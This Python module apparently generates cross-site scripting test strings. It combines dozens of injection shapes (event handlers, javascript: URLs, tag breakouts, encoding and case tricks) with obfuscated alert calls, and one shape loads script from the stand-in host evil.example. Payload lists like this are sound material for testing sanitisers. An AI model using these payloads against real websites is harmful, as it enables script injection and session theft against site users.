"""Strings that run where somebody forgets to escape, made by combining places, tags and spellings."""

from __future__ import annotations

from itertools import product

_CALLS = ["alert(1)", "alert`1`", "(alert)(1)", "top['al'+'ert'](1)", "&#97;lert(1)", "\\u0061lert(1)"]
_SHAPES = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>{}", "<img src=x onerror={}>",
    "<img src=x onerror='{}'>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg/onload={}//", "<body onload={}>",
    "<a href=\"javascript:{}\">x</a>", "<a href=' javascript:{}'>x</a>", "<a href='java\tscript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>", "<a href='vbscript:{}'>x</a>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<math><mi//xlink:href=\"javascript:{}\">", "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<style>*{{background:url(javascript:{})}}</style>",
    "<div style=\"background:url(javascript:{})\">x</div>", "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<link rel=import href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=javascript:{}//>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<template><script>{}</script></template>", "\"><script>{}</script>", "'><script>{}</script>", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "{{{{{}}}}}", "{{% {} %}}", "${{{}}}",
    "<x onclick={}>x</x>", "<p onmouseover={}>x</p>", "<a href=x onclick={}>x</a>", "<b/onclick={}>x</b>", "<b\nonclick={}>x",
    "<!--<img src='--><img src=x onerror={}>'>", "<![CDATA[<script>{}</script>]]>", "<?xml {} ?>", "<mglyph><style><img src=x onerror={}>",
    "<table><td background='javascript:{}'>", "http://x.example/\"onmouseover=\"{}", "https://x.example/<script>{}</script>",
    "a@b.example\"onmouseover={}//", "[x](javascript:{})", "<a href=\"https://x.example\" style=x onclick={}>y</a>",
    "\u202e<script>{}</script>", "<scr\x00ipt>{}</scr\x00ipt>", "＜script＞{}＜/script＞", "%3Cscript%3E{}%3C/script%3E",
]  # fmt: skip
_WRAPS = ["{}", "x {} y", "<b>{}", "{}</b>"]

SCRIPTS = [
    wrap.replace("{}", shape.format(call)) for wrap, shape, call in product(_WRAPS[:3], _SHAPES, _CALLS)
]
